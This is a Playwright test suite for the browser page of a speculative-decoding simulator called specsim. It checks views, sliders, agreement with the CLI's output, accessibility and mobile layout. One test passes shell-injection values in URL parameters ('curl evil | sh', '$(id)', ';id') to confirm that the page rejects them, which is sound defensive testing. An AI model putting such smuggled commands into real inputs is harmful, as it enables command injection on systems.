// The page in Chromium as a user sees it: every view is opened, sliders are moved, values are compared with the program's, and axe-core checks
// accessibility.
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, statSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { gzipSync } from "node:zlib";
import { countsOfRun, csv, require, run, runWords, web } from "./program.mjs";

const { chromium } = require("playwright-core");
const file = join(web, "index.html");
const address = pathToFileURL(file).href;
const shots = process.env.SPECSIM_SHOTS;
if (shots) mkdirSync(shots, { recursive: true });

let browser;
let page;
const wrong = []; // messages of the page's console

before(async () => {
  browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"] });
  page = await open({ viewport: { width: 1360, height: 900 } });
});
after(() => browser?.close());

async function open(options) {
  const context = await browser.newContext(options);
  const own = await context.newPage();
  own.on("pageerror", (error) => wrong.push(String(error)));
  own.on("console", (message) => message.type() === "error" && wrong.push(message.text()));
  own.on("request", (request) => {
    if (!/^(file|data|blob):|^http:\/\/127\.0\.0\.1/.test(request.url())) wrong.push(`asks for ${request.url()}`);
  });
  return own;
}

async function view(hash, own = page) {
  await own.goto("about:blank");
  await own.goto(`${address}#${hash}`);
  await own.waitForSelector(".results .verdict", { timeout: 60000 });
}
const shot = async (name, own = page) => {
  if (!shots) return;
  await own.waitForTimeout(400);
  await own.screenshot({ path: join(shots, `${name}.png`) });
};
const figure = async (name) => Number((await page.textContent(`[data-figure="${name}"]`)).replaceAll(",", "").split(" ")[0]);
async function move(name, value) {
  await page.fill(`input[name="${name}"]`, String(value));
}
const until = (name, good) => page.waitForFunction(([own, text]) => new Function("x", `return ${text}`)(document.querySelector(`[data-figure="${own}"]`)?.textContent ?? ""), [name, good], { timeout: 60000 });

async function accessible(own, what) {
  await own.addScriptTag({ path: require.resolve("axe-core/axe.min.js") });
  const found = await own.evaluate(() => window.axe.run({ resultTypes: ["violations"] }));
  const bad = found.violations.map((one) => `${one.impact}: ${one.id} ${one.nodes.slice(0, 2).map((node) => node.target.join(" ")).join(", ")}`);
  assert.deepEqual(bad, [], what);
}

test("the page is one file under 1.75 MB compressed, with its first picture within a second", async () => {
  assert.ok(gzipSync(readFileSync(file)).length < 1.75e6, `${gzipSync(readFileSync(file)).length} bytes`);
  console.log(`index.html: ${statSync(file).size} bytes, ${gzipSync(readFileSync(file)).length} compressed`);
  const times = [];
  for (let i = 0; i < 3; ++i) {
    await view("");
    times.push(await page.evaluate(() => Math.round(performance.now())));
  }
  const ready = await page.evaluate(() => Number(document.documentElement.dataset.ready));
  console.log(`first picture after at most ${Math.min(...times)} ms, the simulator was ready after ${ready} ms`);
  assert.ok(Math.min(...times) < 1000 * Number(process.env.SPECSIM_WEB_PATIENCE ?? 3), times.join(", "));
});

test("decide shows the output of specsim plan, and follows its sliders", async () => {
  await view("decide?hardware=l40s&batch=4&alpha=0.8&longest=8");
  const compare = async (alpha) => {
    const told = csv(run(["plan", "--hardware", "l40s", "--target", "llama-3.1-8b", "--draft", "llama-3.2-1b", "--batch", "4", "--context", "2048", "--longest", "8", "--alpha", String(alpha)], ["plan.csv"])["plan.csv"]);
    const best = told.find((line) => line.best === "1");
    assert.equal(await figure("best"), Number(best.draft_length));
    if (Number(best.draft_length) > 0) assert.equal(await figure("speedup"), Number(Number(best.speedup).toFixed(4)));
    return best;
  };
  const before = await compare(0.8);
  await shot("decide");
  await move("alpha", 0.6);
  await until("speedup", `x !== "${Number(before.speedup).toFixed(4)}"`);
  await compare(0.6);
  assert.match(page.url(), /alpha=0.6/);
  await page.focus('input[data-name="alpha"]'); // by keyboard
  const was = await page.textContent('[data-figure="speedup"]');
  await page.keyboard.press("ArrowRight");
  await until("speedup", `x !== "${was}"`);
  await compare(0.61);
  await page.selectOption("select >> nth=1", "h100-sxm");
  await page.waitForFunction(() => document.querySelector(".results").textContent.includes("--hardware h100-sxm"));
  await accessible(page, "decide");
});

test("a link with settings that are none shows what is wrong, and no command", async () => {
  for (const link of ["decide?longest=10%3B%20curl%20evil%20%7C%20sh%20%23", "decide?gpus=1%3Bid", "decide?batch=%24(id)", "decide?hardware=%60id%60", "serve?requests=300%3Bid", "serve?policy=fixed%3A3%3Bid", "landscape?alpha=0.7%3Bid", "step?seed=1%3Bid"]) {
    await page.goto("about:blank");
    await page.goto(`${address}#${link}`);
    await page.waitForSelector("main .problem");
    assert.match(await page.textContent("main .problem"), /^The address has an error: [a-z]+: ".*", allowed: /);
    assert.equal(await page.locator(".command, .verdict").count(), 0, link);
  }
  await page.click("main a");
  await page.waitForSelector(".results .verdict", { timeout: 60000 });
});

test("decide learns from pasted benchmark results", async () => {
  await view("decide?hardware=a100-80gb-sxm&target=llama-3.1-8b&draft=eagle3-llama-3.1-8b&engine=vllm&batch=8&alpha=0.7");
  const before = await page.textContent(".results .verdict");
  await page.fill('textarea[name="plainrun"]', "draft_length,concurrency,prompt_tokens,output_tokens,tpot_ms,output_tokens_per_s\n0,8,717,256,11.95,626.9");
  await page.waitForSelector('[data-part="tuned"]', { timeout: 60000 });
  assert.match(await page.textContent('[data-part="tuned"]'), /11\.95/);
  await page.waitForFunction((old) => document.querySelector(".results .verdict").textContent !== old, before, { timeout: 60000 });
  assert.match(await page.textContent(".results"), /specsim tune plain\.json/);
  assert.match(await page.textContent(".results"), /--engine build\/server\/server\.yaml/);
  await shot("decide-tuned");
  await page.fill('textarea[name="plainrun"]', "hello");
  await page.waitForFunction(() => document.querySelector(".results").textContent.includes("the pasted text:1:1"), null, { timeout: 60000 });
});

test("decide takes rates as in a log, and reports errors in them", async () => {
  await view("decide?acceptance=position_rates&rates=70%25,45%25,31%25&longest=6");
  const told = csv(run(["plan", "--hardware", "h100-sxm", "--target", "llama-3.1-8b", "--draft", "llama-3.2-1b", "--longest", "6", "--position-rates", "0.7,0.45,0.31"], ["plan.csv"])["plan.csv"]);
  assert.equal(await figure("best"), Number(told.find((line) => line.best === "1").draft_length));
  await page.fill('input[name="rates"]', "0.4, 0.7");
  await page.waitForSelector(".problem");
  assert.match(await page.textContent(".problem"), /0\.7/);
});

test("landscape by a ratio and on a GPU", async () => {
  await view("landscape?ratio=0.1&alpha=0.7");
  const speedup = (1 - 0.7 ** 4) / 0.3 / 1.3; // draft length 3
  assert.ok((await figure("speedup")) >= speedup - 1e-4);
  await shot("landscape");
  await accessible(page, "landscape");
  const was = await page.textContent('[data-figure="speedup"]');
  await move("ratio", 0.2);
  await until("speedup", `x !== "${was}"`);
  await page.selectOption("select >> nth=0", "gpu");
  await page.waitForSelector('input[name="batch"]');
  await until("speedup", 'x !== ""');
});

test("serve draws the curve that its command prints, and replays steps", async () => {
  await view("serve?requests=300");
  await page.waitForSelector('[data-done="yes"]', { timeout: 120000 });
  const shown = async () => page.evaluate(() => JSON.parse(document.querySelector("[data-points]").dataset.points));
  const compare = async () => {
    const words = await page.evaluate(() => document.querySelector("[data-command]").dataset.command);
    const lines = csv(runWords(words, "curve.csv"));
    const points = await shown();
    assert.equal(points.length, lines.length);
    points.forEach(([load, speculative, tpot, ttft, goodput, output], i) => {
      assert.equal(load, Number(lines[i].rate ?? lines[i].concurrency));
      assert.equal(speculative, lines[i].speculative === "1");
      for (const [value, column] of [[tpot, "mean_tpot_ms"], [ttft, "p99_ttft_ms"], [goodput, "request_goodput"], [output, "output_throughput"]]) assert.ok(Math.abs(value - Number(lines[i][column])) <= 1e-6 * value + 1e-9, `${column} at ${load}: ${value}, the program prints ${lines[i][column]}`);
    });
  };
  await compare();
  await page.waitForSelector("[data-step]");
  await shot("serve");
  await accessible(page, "serve");
  const was = await page.getAttribute("[data-step]", "data-step");
  await page.click('button[name="on"]');
  await page.waitForFunction((own) => document.querySelector("[data-step]").dataset.step !== own, was);
  if (shots) await page.locator("[aria-label=Replay]").screenshot({ path: join(shots, "replay.png") });
  await page.click('button[name="play"]');
  const step = await page.getAttribute("[data-step]", "data-step");
  await page.waitForFunction((own) => Number(document.querySelector("[data-step]").dataset.step) > Number(own) + 2, step);
  await page.click('button[name="play"]');
  await page.selectOption("select >> nth=0", "line");
  await page.waitForFunction(() => document.querySelector("[data-command]").dataset.command.includes("affine"));
  await page.waitForSelector('[data-done="yes"]', { timeout: 120000 });
  await compare();
  await page.fill('input[name="rates"]', "0.5, 0.7");
  await page.waitForSelector(".problem");
  assert.match(await page.textContent(".problem"), /0\.7/);
});

test("mass of one position, with bars that are dragged", async () => {
  await view("mass?vocab=6");
  assert.ok(Math.abs((await figure("alpha")) - (await figure("overlap"))) < 1e-9);
  assert.ok(Math.abs((await figure("alpha")) + (await figure("distance")) - 1) < 2e-6);
  await shot("mass");
  await accessible(page, "mass");
  const bar = page.locator('.bar[data-which="0"][data-token="5"]');
  const height = async () => Number(await bar.getAttribute("aria-valuenow"));
  const box = await bar.boundingBox();
  const middle = box.x + box.width / 2;
  await page.mouse.move(middle, box.y + box.height * 0.9);
  await page.mouse.down();
  const seen = [];
  for (const share of [0.8, 0.6, 0.4]) { // the bar follows the pointer all the way while it is redrawn
    const before = await height();
    await page.mouse.move(middle, box.y + box.height * share, { steps: 3 });
    await page.waitForFunction(([own, was]) => Number(document.querySelector(own).getAttribute("aria-valuenow")) > was + 0.02, ['.bar[data-which="0"][data-token="5"]', before]);
    seen.push(await height());
  }
  await page.mouse.up();
  assert.ok(seen[2] > 0.2, seen.join(", "));
  await page.mouse.move(middle, box.y + box.height * 0.1); // let go: it stays
  await page.waitForTimeout(200);
  assert.equal(await height(), seen[2]);
  await bar.focus(); // the same by keyboard, step by step
  for (let i = 1; i <= 3; ++i) {
    await page.keyboard.press("ArrowDown");
    await page.waitForFunction(([own, to]) => Math.abs(Number(document.querySelector(own).getAttribute("aria-valuenow")) - to) < 1e-3, ['.bar[data-which="0"][data-token="5"]', seen[2] - 0.01 * i]);
  }
  assert.equal(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), "Target of token 5");
  assert.ok(Math.abs((await figure("alpha")) - (await figure("overlap"))) < 1e-5);
  assert.match(page.url(), /own=/);
  const chosen = (name) => page.locator("label", { hasText: new RegExp(`^${name}$`) }).locator("xpath=..").locator("select").evaluate((field) => field.selectedOptions[0].textContent);
  assert.deepEqual([await chosen("Target"), await chosen("Draft")], ["drawn by hand", "drawn by hand"]);
  await page.selectOption("select >> nth=0", "lenience");
  await until("bias", "Number(x) > 0.01");
});

test("rounds in the page count what specsim run counts; a biased rule stays off", async () => {
  await view("unbiasedness?own=6,4,2,2,2;2,8,1,3,2&rounds=262144&seed=3&length=3");
  await page.waitForSelector('[data-done="yes"]', { timeout: 120000 });
  await shot("unbiasedness");
  await accessible(page, "unbiasedness");
  const counts = JSON.parse(await page.getAttribute(".results", "data-counts"));
  const told = countsOfRun({
    experiment: "explorer",
    seed: 3,
    rounds: 262144,
    pair: { vocab: 5, target: { family: "explicit", probabilities: [0.375, 0.25, 0.125, 0.125, 0.125] }, draft: { family: "explicit", probabilities: [0.125, 0.5, 0.0625, 0.1875, 0.125] } },
    context: { process: "fixed" },
    decode: { drafter: { kind: "chain", draft_length: 3 }, verifier: { kind: "token" } },
  });
  const columns = Object.keys(told[0]).slice(-3);
  for (const line of told) assert.equal(counts[line[columns[0]]][Number(line[columns[1]] || 0)], Number(line[columns[2]]), JSON.stringify(line));
  assert.match(await page.textContent(".verdict"), /On the target/);
  await view("unbiasedness?rounds=262144&rule=typical");
  await page.waitForSelector('[data-done="yes"]', { timeout: 120000 });
  assert.match(await page.textContent(".verdict"), /Off the target/);
  await shot("biased");
});

test("step shows a round, and goes on to the next", async () => {
  await view("step?round=4");
  assert.equal(await page.locator("[data-emitted]").count(), (await figure("accepted")) + 1);
  await shot("step");
  await accessible(page, "step");
  await page.click('button[name="next"]');
  await page.waitForFunction(() => location.hash.includes("round=5"));
});

test("every view in the dark and on a phone", async () => {
  const dark = await open({ viewport: { width: 1360, height: 900 }, colorScheme: "dark" });
  const phone = await open({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
  for (const name of ["decide", "landscape", "serve", "mass", "unbiasedness", "step"]) {
    for (const [own, kind] of [[dark, "dark"], [phone, "phone"]]) {
      await view(`${name}?rounds=16384`, own);
      await accessible(own, `${name}, ${kind}`);
      const wide = await own.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      if (kind === "phone") {
        const top = await own.evaluate(() => document.querySelector(".results").getBoundingClientRect().top);
        assert.ok(top < 844, `${name}: what comes out is ${top} pixels down a phone`);
        await own.click("details.more > summary");
        assert.ok(await own.locator("details.more input, details.more select").first().isVisible());
        await own.click("details.more > summary");
        await own.evaluate(() => scrollTo(0, document.querySelector(".results").getBoundingClientRect().top - 60));
      }
      assert.equal(wide, 0, `${name}, ${kind}: the page is ${wide} pixels too wide`);
      await shot(`${name}-${kind}`, own);
    }
  }
});

test("the description of a point stays on a phone's screen", async () => {
  const phone = await open({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
  await view("decide", phone);
  const bars = phone.locator(".picture").first().locator("rect");
  await bars.first().scrollIntoViewIfNeeded();
  for (let i = 0; i < (await bars.count()); ++i) {
    const bar = await bars.nth(i).boundingBox();
    await phone.mouse.move(bar.x + bar.width / 2, bar.y + bar.height / 2);
    await phone.waitForFunction((length) => document.querySelector('g[aria-label="tip"] text')?.textContent.includes(`draft length ${length}:`), i + 1);
    await phone.waitForFunction(() => {
      const tip = document.querySelector('g[aria-label="tip"]').getBoundingClientRect();
      return tip.left >= 0 && tip.right <= document.documentElement.clientWidth;
    });
  }
});

test("it runs from a host as well", async () => {
  const server = createServer((_, response) => response.writeHead(200, { "content-type": "text/html" }).end(readFileSync(file)));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const own = await open({});
  await own.goto(`http://127.0.0.1:${server.address().port}/#step`);
  await own.waitForSelector(".results .verdict");
  server.close();
});

test("nothing went wrong in the console, and nothing was asked of the network", () => assert.deepEqual(wrong, []));
